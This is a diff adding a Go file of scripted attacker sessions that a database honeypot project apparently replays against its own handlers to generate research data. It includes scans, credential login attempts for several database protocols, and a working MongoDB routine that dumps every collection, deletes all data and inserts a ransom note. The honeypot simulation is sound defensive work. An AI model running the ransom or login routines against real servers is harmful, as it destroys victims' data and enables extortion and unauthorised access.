@@ -1,0 +1,415 @@
+// Attacker-side protocol scripts. Every script drives a real client
+// dialogue against a honeypot handler over a net.Conn — the simulator
+// never injects synthetic events; all observations enter the dataset
+// through the same wire parsing a live deployment would use.
+package simnet
+
+import (
+	"bufio"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"time"
+
+	"decoydb/internal/bson"
+	"decoydb/internal/core"
+	"decoydb/internal/mongo"
+	"decoydb/internal/mssql"
+	"decoydb/internal/mysql"
+	"decoydb/internal/postgres"
+	"decoydb/internal/redis"
+	"decoydb/internal/wire"
+)
+
+// Script is one client-side session behaviour.
+type Script func(conn net.Conn) error
+
+// scanClose models a plain port scan: open, (optionally grab the banner),
+// close. The honeypot sees connect + disconnect — the paper's "scanning"
+// class.
+func scanClose(dbms string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		if dbms == core.MySQL {
+			// MySQL servers speak first; scanners read the greeting.
+			_, err := mysql.ReadPacket(bufio.NewReader(conn))
+			return err
+		}
+		return nil
+	}
+}
+
+// mysqlLogin performs one full MySQL login attempt, complying with the
+// honeypot's cleartext auth switch.
+func mysqlLogin(user, pass string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		if _, err := mysql.ReadPacket(br); err != nil {
+			return err
+		}
+		lr := mysql.LoginRequest{
+			Capabilities: mysql.CapLongPassword | mysql.CapProtocol41 |
+				mysql.CapSecureConnection | mysql.CapPluginAuth,
+			MaxPacket: 1 << 24, Charset: 0x21,
+			User: user, AuthData: []byte{0x01},
+		}
+		if err := mysql.WritePacket(conn, mysql.Packet{Seq: 1, Payload: mysql.EncodeLoginRequest(lr)}); err != nil {
+			return err
+		}
+		sw, err := mysql.ReadPacket(br)
+		if err != nil {
+			return err
+		}
+		if len(sw.Payload) > 0 && sw.Payload[0] == 0xfe {
+			if err := mysql.WritePacket(conn, mysql.Packet{Seq: sw.Seq + 1, Payload: append([]byte(pass), 0)}); err != nil {
+				return err
+			}
+			_, err = mysql.ReadPacket(br) // denial
+			return err
+		}
+		return nil
+	}
+}
+
+// mssqlLogin performs one full TDS login attempt.
+func mssqlLogin(user, pass string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		pre := mssql.Packet{Type: mssql.PktPrelogin, Payload: mssql.StandardPrelogin(11, 0, 0, 0)}
+		if err := mssql.WritePacket(conn, pre); err != nil {
+			return err
+		}
+		if _, err := mssql.ReadPacket(br); err != nil {
+			return err
+		}
+		l7 := mssql.EncodeLogin7(mssql.Login7{
+			HostName: "WIN-BRUTE", UserName: user, Password: pass, AppName: "OSQL-32",
+		})
+		if err := mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktLogin7, Payload: l7}); err != nil {
+			return err
+		}
+		_, err := mssql.ReadPacket(br)
+		return err
+	}
+}
+
+// pgLogin performs one PostgreSQL password login and, if the honeypot
+// lets it in, optionally runs queries before terminating.
+func pgLogin(user, pass string, queries []string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		if _, err := conn.Write(postgres.EncodeStartup(map[string]string{"user": user, "database": user})); err != nil {
+			return err
+		}
+		m, err := postgres.ReadMsg(br)
+		if err != nil {
+			return err
+		}
+		if m.Type != 'R' {
+			return nil
+		}
+		if err := postgres.WriteMsg(conn, 'p', postgres.EncodePassword(pass)); err != nil {
+			return err
+		}
+		// Read until ReadyForQuery (accepted) or ErrorResponse (denied).
+		for {
+			m, err = postgres.ReadMsg(br)
+			if err != nil {
+				return err
+			}
+			if m.Type == 'E' {
+				return nil
+			}
+			if m.Type == 'Z' {
+				break
+			}
+		}
+		for _, q := range queries {
+			if err := postgres.WriteMsg(conn, 'Q', postgres.EncodeQuery(q)); err != nil {
+				return err
+			}
+			for {
+				m, err = postgres.ReadMsg(br)
+				if err != nil {
+					return err
+				}
+				if m.Type == 'Z' {
+					break
+				}
+			}
+		}
+		return postgres.WriteMsg(conn, 'X', nil)
+	}
+}
+
+// redisCommands sends a fixed command sequence, reading each reply.
+func redisCommands(cmds [][]string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		for _, c := range cmds {
+			if _, err := conn.Write(redis.EncodeCommand(c...)); err != nil {
+				return err
+			}
+			if _, err := redis.ReadValue(br); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// redisScoutFakeData enumerates the keyspace and TYPE-probes every entry
+// — the distinctive behaviour the paper observed only on the fake-data
+// configuration.
+func redisScoutFakeData() Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		send := func(args ...string) (redis.Value, error) {
+			if _, err := conn.Write(redis.EncodeCommand(args...)); err != nil {
+				return redis.Value{}, err
+			}
+			return redis.ReadValue(br)
+		}
+		if _, err := send("INFO"); err != nil {
+			return err
+		}
+		keys, err := send("KEYS", "*")
+		if err != nil {
+			return err
+		}
+		for i, k := range keys.Array {
+			if i >= 40 { // bots cap their walk
+				break
+			}
+			if _, err := send("TYPE", k.Str); err != nil {
+				return err
+			}
+			if _, err := send("GET", k.Str); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// rawProbe writes opaque bytes (RDP cookies, JDWP handshakes) and briefly
+// waits for a response — scans for services unrelated to the DBMS. Such
+// probes never get the answer they hoped for, so the read is bounded by a
+// short deadline, like the real tools' socket timeouts.
+func rawProbe(payload string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		if _, err := conn.Write([]byte(payload)); err != nil {
+			return err
+		}
+		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
+		buf := make([]byte, 512)
+		_, _ = conn.Read(buf)
+		return nil
+	}
+}
+
+// httpReq is one HTTP exchange for the Elasticsearch honeypot.
+type httpReq struct {
+	method string
+	target string
+	body   string
+}
+
+// elasticRequests performs a series of HTTP requests on one connection.
+func elasticRequests(reqs []httpReq) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		for i, r := range reqs {
+			var b strings.Builder
+			fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: target:9200\r\nUser-Agent: python-requests/2.27\r\n", r.method, r.target)
+			if r.body != "" {
+				fmt.Fprintf(&b, "Content-Type: application/json\r\nContent-Length: %d\r\n", len(r.body))
+			}
+			if i == len(reqs)-1 {
+				b.WriteString("Connection: close\r\n")
+			}
+			b.WriteString("\r\n")
+			b.WriteString(r.body)
+			if _, err := conn.Write([]byte(b.String())); err != nil {
+				return err
+			}
+			if err := readHTTPResponse(br); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+func readHTTPResponse(br *bufio.Reader) error {
+	// Status + headers.
+	contentLen := 0
+	for first := true; ; first = false {
+		line, err := br.ReadString('\n')
+		if err != nil {
+			return err
+		}
+		line = strings.TrimRight(line, "\r\n")
+		if line == "" {
+			break
+		}
+		if !first {
+			if v, ok := strings.CutPrefix(strings.ToLower(line), "content-length:"); ok {
+				fmt.Sscanf(strings.TrimSpace(v), "%d", &contentLen)
+			}
+		}
+	}
+	if contentLen > 0 {
+		buf := make([]byte, contentLen)
+		if _, err := io.ReadFull(br, buf); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// mongoCmds runs a sequence of OP_MSG commands.
+func mongoCmds(cmds []bson.D) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		for i, cmd := range cmds {
+			b, err := mongo.EncodeMsg(int32(i+1), cmd)
+			if err != nil {
+				return err
+			}
+			if _, err := conn.Write(b); err != nil {
+				return err
+			}
+			if _, err := mongo.ReadMessage(br); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// mongoRansom performs the full theft-and-ransom attack from the paper's
+// Section 6.3: enumerate, dump every collection, wipe, insert the note.
+func mongoRansom(note string) Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		br := bufio.NewReader(conn)
+		seq := int32(0)
+		run := func(cmd bson.D) (bson.D, error) {
+			seq++
+			b, err := mongo.EncodeMsg(seq, cmd)
+			if err != nil {
+				return nil, err
+			}
+			if _, err := conn.Write(b); err != nil {
+				return nil, err
+			}
+			reply, err := mongo.ReadMessage(br)
+			if err != nil {
+				return nil, err
+			}
+			return reply.Body, nil
+		}
+		if _, err := run(bson.D{{Key: "isMaster", Val: int32(1)}, {Key: "$db", Val: "admin"}}); err != nil {
+			return err
+		}
+		dbs, err := run(bson.D{{Key: "listDatabases", Val: int32(1)}, {Key: "$db", Val: "admin"}})
+		if err != nil {
+			return err
+		}
+		names := []string{}
+		if v, ok := dbs.Lookup("databases"); ok {
+			if arr, ok := v.(bson.A); ok {
+				for _, d := range arr {
+					if doc, ok := d.(bson.D); ok {
+						names = append(names, doc.Str("name"))
+					}
+				}
+			}
+		}
+		for _, db := range names {
+			colls, err := run(bson.D{{Key: "listCollections", Val: int32(1)}, {Key: "$db", Val: db}})
+			if err != nil {
+				return err
+			}
+			collNames := []string{}
+			if c := colls.Doc("cursor"); c != nil {
+				if v, ok := c.Lookup("firstBatch"); ok {
+					if arr, ok := v.(bson.A); ok {
+						for _, d := range arr {
+							if doc, ok := d.(bson.D); ok {
+								collNames = append(collNames, doc.Str("name"))
+							}
+						}
+					}
+				}
+			}
+			for _, coll := range collNames {
+				// Dump, then wipe.
+				if _, err := run(bson.D{{Key: "find", Val: coll}, {Key: "$db", Val: db}}); err != nil {
+					return err
+				}
+				if _, err := run(bson.D{
+					{Key: "delete", Val: coll},
+					{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
+					{Key: "$db", Val: db},
+				}); err != nil {
+					return err
+				}
+			}
+			// Replace any previous note, then drop the fresh one.
+			if _, err := run(bson.D{
+				{Key: "delete", Val: "README"},
+				{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
+				{Key: "$db", Val: db},
+			}); err != nil {
+				return err
+			}
+			if _, err := run(bson.D{
+				{Key: "insert", Val: "README"},
+				{Key: "documents", Val: bson.A{bson.D{{Key: "content", Val: note}}}},
+				{Key: "$db", Val: db},
+			}); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// pgFramedRDPProbe wraps an RDP cookie inside a syntactically valid (but
+// non-v3) PostgreSQL startup frame. The honeypot parses the frame and
+// logs a NON-PG-HANDSHAKE observation carrying the cookie, giving the
+// RDP-scan population a second behavioural shape (the paper clustered
+// the PostgreSQL RDP scans into several groups).
+func pgFramedRDPProbe() Script {
+	return func(conn net.Conn) error {
+		defer conn.Close()
+		w := wire.NewWriter(64)
+		w.Uint32BE(0)          // length placeholder
+		w.Uint32BE(0x00031234) // not protocol 3.0
+		w.CString("cookie").CString("Cookie: mstshash=Administr")
+		w.Uint8(0)
+		b := w.Bytes()
+		b[0] = byte(len(b) >> 24)
+		b[1] = byte(len(b) >> 16)
+		b[2] = byte(len(b) >> 8)
+		b[3] = byte(len(b))
+		if _, err := conn.Write(b); err != nil {
+			return err
+		}
+		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
+		buf := make([]byte, 256)
+		_, _ = conn.Read(buf)
+		return nil
+	}
+}
